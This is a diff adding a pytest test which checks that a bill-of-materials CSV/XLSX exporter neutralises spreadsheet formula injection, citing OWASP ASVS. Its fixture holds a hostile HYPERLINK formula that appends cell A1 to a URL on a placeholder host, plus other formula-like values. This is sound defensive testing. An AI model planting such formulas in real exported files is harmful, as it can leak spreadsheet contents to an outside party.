@@ -90,3 +90,27 @@ def test_size_json_has_topology_power_racks_bom(design):
     doc = json.loads(proc.stdout)
     assert doc["topology"]["hosts"][0]["server"] == "dell-c4140"
     assert doc["power"]["total_w"] > 0 and doc["racks"]["racks"] and doc["bom"]["lines"]
+
+
+def test_names_that_look_like_formulas_stay_text(tmp_path):
+    """OWASP ASVS 5.0, 1.2.10: a cell starting with '=', '+', '-', '@', tab or NUL is run as a
+    formula by spreadsheet programs; a catalog part number or a name must stay text."""
+    import csv
+    import io as _io
+
+    from openpyxl import load_workbook
+
+    from reports.bom_export import bom_csv, bom_xlsx
+    from wizard.model.buildout import Bom, BomCategory, BomLine
+
+    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    bom = Bom(lines=[BomLine(category=BomCategory.SERVER, item="server:x", part_number=hostile,
+                             description="@SUM(A1:A9)", quantity=1, unit="each",
+                             source="-2+3")])  # fmt: skip
+    rows = list(csv.reader(_io.StringIO(bom_csv(bom))))
+    assert rows[1][2] == "'" + hostile and rows[1][3] == "'@SUM(A1:A9)" and rows[1][9] == "'-2+3"
+    path = tmp_path / "bom.xlsx"
+    path.write_bytes(bom_xlsx(bom))
+    ws = load_workbook(path).active
+    assert ws["C2"].value == hostile and ws["C2"].data_type == "s"
+    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)
